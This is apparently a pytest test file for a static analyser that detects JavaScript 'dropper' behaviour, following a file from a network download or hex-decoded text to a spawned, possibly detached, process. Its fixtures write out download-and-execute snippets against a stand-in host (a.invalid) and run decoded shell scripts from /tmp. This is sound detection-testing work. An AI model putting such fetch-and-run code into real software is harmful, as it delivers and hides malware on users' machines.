from __future__ import annotations

import pytest

from assay.javascript.drops import UNSEEN
from assay.javascript.read import read
from assay.model.source import BehaviourKind, Flow

HEAD = "const fs = require('fs'), cp = require('child_process'), https = require('https'), os = require('os');\n"
GET = "https.get('https://a.invalid/x', (answer) => answer.pipe(fs.createWriteStream(file)));\n"


def drops(code: str) -> list[Flow]:
    return [flow for flow in read("a.js", (HEAD + code).encode()).flows if flow.steps]


@pytest.mark.parametrize(
    "code",
    [
        "const file = os.tmpdir() + '/a.exe';\n" + GET + "cp.spawn(file, []);",
        "function get(file) {\n" + GET + "}\nget(os.tmpdir() + '/a.exe');\ncp.exec(`sh ${os.tmpdir()}/a.exe`);",
    ],
)
def test_a_file_is_followed_from_the_network_to_the_process(code: str) -> None:
    (drop,) = drops(code)
    assert (drop.source.kind, drop.sink.kind) == (BehaviourKind.NETWORK, BehaviourKind.PROCESS)
    assert drop.steps == ("<tmp>/a.exe",)
    assert drop.source.detail == "https.get to https://a.invalid/x"


def test_a_hidden_text_that_is_written_and_started_is_a_drop() -> None:
    code = "const f = '/tmp/a.sh'; fs.writeFileSync(f, Buffer.from('6869', 'hex')); fetch; cp.execFile('sh', [f]);"
    (drop,) = drops(code)
    assert (drop.source.kind, drop.source.decoded) == (BehaviourKind.DECODE, "hi")


def test_a_process_that_nobody_sees_is_told() -> None:
    code = "const file = '/tmp/a';\n" + GET + "const how = { detached: true }; cp.spawn(file, [], how);"
    assert drops(code)[0].sink.detail.endswith(UNSEEN)
    assert drops(code.replace("detached: true", "stdio: 'inherit'"))[0].sink.detail == "child_process.spawn"


@pytest.mark.parametrize(
    "code",
    [
        "const file = 'a.zip';\n" + GET + "cp.spawn('node', ['--version']);",
        "const file = 'a.txt'; fs.writeFileSync(file, 'text'); cp.exec(`cat ${file}`);",
    ],
)
def test_other_files_and_other_contents_are_none(code: str) -> None:
    assert drops(code) == []
